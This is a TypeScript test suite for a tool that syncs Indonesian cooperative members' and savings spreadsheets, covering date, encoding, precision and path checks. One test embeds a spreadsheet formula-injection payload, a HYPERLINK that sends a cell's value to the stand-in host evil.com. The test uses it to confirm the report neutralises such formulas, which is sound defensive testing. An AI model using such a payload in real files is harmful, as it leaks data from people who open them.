import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { loadConfig } from './config';
import { planSync } from './run/plan';
import { exitCodeOf } from './run/summary';
import { fieldsOf } from './streams';
import { readTable } from './table/read-table';
import { Captured, removeTempFolders, runAgent, SAMPLES, tempFolder } from './testing/run-agent';

const config = loadConfig(join(SAMPLES, 'kopfed-sync.yaml'), fieldsOf);
const plan = async (file: string) =>
  planSync('members', await readTable(join(SAMPLES, file)), {
    coopId: 'ksp-sejahtera',
    today: '2026-11-28',
    config: config.members,
    batchSize: 1_000,
  });

afterEach(removeTempFolders);

describe('reading a coop’s files', () => {
  it('an Excel workbook (real dates, serial numbers, text) gives the same items and rejections as its CSV export', async () => {
    const [xlsx, csv] = await Promise.all([plan('members.xlsx'), plan('members.csv')]);
    expect(xlsx.items).toBe(8);
    expect(xlsx.batches).toEqual(csv.batches);
    expect(xlsx.rejections).toEqual(csv.rejections);
    expect(xlsx.sha256).toBe(csv.sha256);
  });

  it('--dry-run checks and plans without a server: nothing is sent, the report is written', async () => {
    const stdout = new Captured();
    const { request, run } = runAgent(
      'members',
      join(SAMPLES, 'members.csv'),
      { dryRun: true, stdout },
      config,
    );
    const summary = await run();
    expect(summary).toMatchObject({
      dryRun: true,
      complete: false,
      items: 8,
      batches: 1,
      rejectedRows: { local: 4, server: 0 },
    });
    expect(exitCodeOf(summary)).toBe(2);
    expect(stdout.text).toContain('"memberNumber": "A-0001"');
    const report = readFileSync(request.reportPath, 'utf8').split('\r\n');
    expect(report.slice(1, -1).map((line) => line.split(',')[0])).toEqual(['10', '11', '12', '13']);
  });

  it('the report keeps a cell that a spreadsheet would run as a formula as text, and reads back as it was', async () => {
    const dir = tempFolder();
    const file = join(dir, 'members.csv');
    const sample = readFileSync(join(SAMPLES, 'members.csv'), 'utf8').split('\n');
    const hostile = sample[1]!
      .replace('Siti Rahayu', '"=HYPERLINK(""http://evil.example/?""&B2,""lihat"")"')
      .replace('Jl. Pandanaran 12 RT 02/RW 05', '@SUM(A1:A9)')
      .replace('12/03/1985', '12/13/1985');
    writeFileSync(file, `${sample[0]}\n${hostile}\n`);
    const { request, run } = runAgent('members', file, { dryRun: true }, config);
    expect(await run()).toMatchObject({ rejectedRows: { local: 1, server: 0 } });
    const report = readFileSync(request.reportPath, 'utf8');
    expect(report).toContain(`,"'=HYPERLINK(""http://evil.example/?""&B2,""lihat"")",`);
    expect(report).toContain(`,'@SUM(A1:A9),`);
    expect(report).not.toMatch(/,"?[=@]/);

    // Fixed in the report and synced from it, the row says what the file said.
    writeFileSync(request.reportPath, report.replace(',12/13/1985,', ',12/03/1985,'));
    const again = planSync('members', await readTable(request.reportPath), {
      coopId: 'ksp-sejahtera',
      today: '2026-11-28',
      config: config.members,
      batchSize: 1_000,
    });
    expect(again.rejections).toEqual([]);
    expect(again.batches[0]![0]!.item).toMatchObject({
      person: {
        name: '=HYPERLINK("http://evil.example/?"&B2,"lihat")',
        address: { line: '@SUM(A1:A9)' },
      },
    });
  });

  it('a row with more cells than the header names is refused, not read shifted (1,500,000 unquoted)', async () => {
    const dir = tempFolder();
    const file = join(dir, 'savings.csv');
    writeFileSync(
      file,
      [
        'No. Transaksi,No. Rekening,No. Anggota,Jenis Simpanan,Tanggal,Jenis Transaksi,Jumlah,Keterangan',
        'TRX-0001,SS-0001,A-0001,Sukarela,02/01/2023,Buka,,,',
        'TRX-0002,SS-0001,,,03/01/2023,Setor,1,500,000,gaji',
        'TRX-0003,SS-0001,,,04/01/2023,Setor,"1,500,000",gaji',
        '',
      ].join('\r\n'),
    );
    const planned = planSync('savings', await readTable(file), {
      coopId: 'ksp-sejahtera',
      today: '2026-11-28',
      config: config.savings,
      batchSize: 1_000,
    });
    expect(planned.batches.flat().map((p) => p.item.externalId)).toEqual(['TRX-0001', 'TRX-0003']);
    expect(planned.batches[0]![1]!.item).toMatchObject({
      amount: { amount: '1500000', currency: 'IDR' },
    });
    expect(planned.rejections).toEqual([
      expect.objectContaining({ line: 3, codes: ['row_too_long'] }),
    ]);
  });

  it('a date that reads either way is refused where its column also writes the month first', async () => {
    const dir = tempFolder();
    const file = join(dir, 'savings.csv');
    writeFileSync(
      file,
      [
        'No. Transaksi,No. Rekening,No. Anggota,Jenis Simpanan,Tanggal,Jenis Transaksi,Jumlah,Keterangan',
        'TRX-0001,SS-0001,A-0001,Sukarela,1/2/2023,Buka,,',
        'TRX-0002,SS-0001,,,1/25/2023,Setor,50000,',
        'TRX-0003,SS-0001,,,2/2/2023,Setor,50000,',
        'TRX-0004,SS-0001,,,2/13/2023,Setor,50000,',
        '',
      ].join('\r\n'),
    );
    const planned = planSync('savings', await readTable(file), {
      coopId: 'ksp-sejahtera',
      today: '2026-11-28',
      config: config.savings,
      batchSize: 1_000,
    });
    // 1/2/2023 is 2 January here, not 1 February: nothing of this file is read day first.
    expect(planned.items).toBe(1);
    expect(planned.batches[0]![0]!.item).toMatchObject({ externalId: 'TRX-0003' });
    expect(planned.rejections.map((r) => [r.line, r.codes])).toEqual([
      [2, ['date_order_ambiguous']],
      [3, ['date_impossible']],
      [5, ['date_impossible']],
    ]);
    expect(planned.rejections[0]!.reasons[0]).toMatch(/Tanggal: "1\/2\/2023" could be day first/);

    // Day first elsewhere in the column (25/01/2023): 1/25/2023 is a typo, 1/2/2023 is 1 February.
    writeFileSync(file, readFileSync(file, 'utf8').replace('2/2/2023', '25/01/2023'));
    const dayFirst = planSync('savings', await readTable(file), {
      coopId: 'ksp-sejahtera',
      today: '2026-11-28',
      config: config.savings,
      batchSize: 1_000,
    });
    expect(dayFirst.batches[0]![0]!.item).toMatchObject({ businessDate: '2023-02-01' });
    expect(dayFirst.rejections.map((r) => [r.line, r.codes])).toEqual([
      [3, ['date_impossible']],
      [5, ['date_impossible']],
    ]);
  });

  it('a CSV that is not UTF-8 (Excel’s plain “CSV” on Windows) is refused, not read with its letters lost', async () => {
    const dir = tempFolder();
    const file = join(dir, 'members.csv');
    const sample = readFileSync(join(SAMPLES, 'members.csv'), 'utf8').split('\n').slice(0, 3);
    writeFileSync(
      file,
      Buffer.from(sample.join('\r\n').replace('Siti Rahayu', 'Siti Rahayu Pérez'), 'latin1'),
    );
    await expect(readTable(file)).rejects.toThrow(/not UTF-8.*line 2.*CSV UTF-8/);
  });

  it('a workbook holding a number too long to be exact (a Papua NIK typed as a number) is refused, not read rounded', async () => {
    const { default: excel } = await import('exceljs');
    const dir = tempFolder();
    const file = join(dir, 'members.xlsx');
    const workbook = new excel.Workbook();
    const sheet = workbook.addWorksheet('Anggota');
    sheet.addRow([
      'No. Anggota',
      'Nama',
      'NIK',
      'Tanggal Lahir',
      'Jenis Kelamin',
      'Alamat',
      'Tgl Masuk',
    ]);
    // 9171011203850013 is past 2^53: as a number it is 9171011203850012, another valid NIK.
    sheet.addRow([
      'P-0001',
      'Yohana Wenda',
      Number('9171011203850013'),
      '12/03/1985',
      'P',
      'Jl. Raya Sentani 1',
      '02/01/2023',
    ]);
    await workbook.xlsx.writeFile(file);
    await expect(readTable(file)).rejects.toThrow(/row 2, column C: .*too many digits.*as Text/);
  });

  it('a report or state path naming the file being synced is refused, and the file left as it was', async () => {
    const dir = tempFolder();
    const file = join(dir, 'members.csv');
    const content = readFileSync(join(SAMPLES, 'members.csv'), 'utf8');
    writeFileSync(file, content);
    for (const overrides of [
      { dryRun: true, reportPath: join(dir, '.', 'members.csv') },
      { statePath: file, url: 'http://127.0.0.1:9', token: 'k' },
      { statePath: join(dir, 'same.json'), reportPath: join(dir, 'same.json') },
    ]) {
      const { run } = runAgent('members', file, overrides, config);
      await expect(run()).rejects.toThrow(
        /--(report|state) .* (is the file being synced|is also the)/,
      );
      expect(readFileSync(file, 'utf8')).toBe(content);
    }
  });

  it('a file without a required column is refused by name before anything is planned', async () => {
    const table = await readTable(join(SAMPLES, 'loans.csv'));
    expect(() =>
      planSync('members', table, {
        coopId: 'ksp-sejahtera',
        today: '2026-11-28',
        config: config.members,
        batchSize: 1_000,
      }),
    ).toThrow(/missing columns: .*Nama/);
  });
});
